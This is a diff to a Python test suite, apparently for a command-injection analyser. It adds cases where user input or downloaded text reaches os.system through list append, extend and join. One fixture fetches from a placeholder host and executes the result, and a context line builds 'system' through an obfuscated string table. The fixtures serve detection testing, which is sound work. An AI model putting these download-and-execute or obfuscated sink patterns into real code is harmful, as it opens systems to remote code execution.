@@ -266,7 +266,20 @@ TEXTS = {
     "string table": "''.join(__import__('string').ascii_lowercase[i] for i in (18, 24, 18, 19, 4, 12))",
 }  # fmt: skip
 
-CASES = [*MODULES, *FLOWS, *SINKS, *RUNS]
+FETCHED = "urllib.request.urlopen('https://c.example.invalid/c').read().decode()"
+LISTS = [
+    Case("appended to a list", COMMAND, "input()", "'pwd'", one(
+        "import os\nrows = ['ls']\nrows.append(input())\nfor row in rows:\n    os.system(row)\n")),
+    Case("a list that was extended", COMMAND, "input()", "'pwd'", one(
+        "import os\ndef main():\n    rows = ['ls']\n    rows.extend([input()])\n"
+        "    for row in rows:\n        os.system(row)\n")),
+    Case("joined of what was appended", COMMAND, "input()", "'-l'", one(
+        "import os\nrows = []\nrows.append(input())\nos.system(' '.join(rows))\n")),
+    Case("downloaded and appended", DOWNLOADED, FETCHED, "'pwd'", one(
+        f"import os, urllib.request\nrows = []\nrows.append({FETCHED})\nfor row in rows:\n    os.system(row)\n")),
+]  # fmt: skip
+
+CASES = [*MODULES, *FLOWS, *SINKS, *RUNS, *LISTS]
 
 
 def blocks(files: dict[str, str]) -> set[str]:
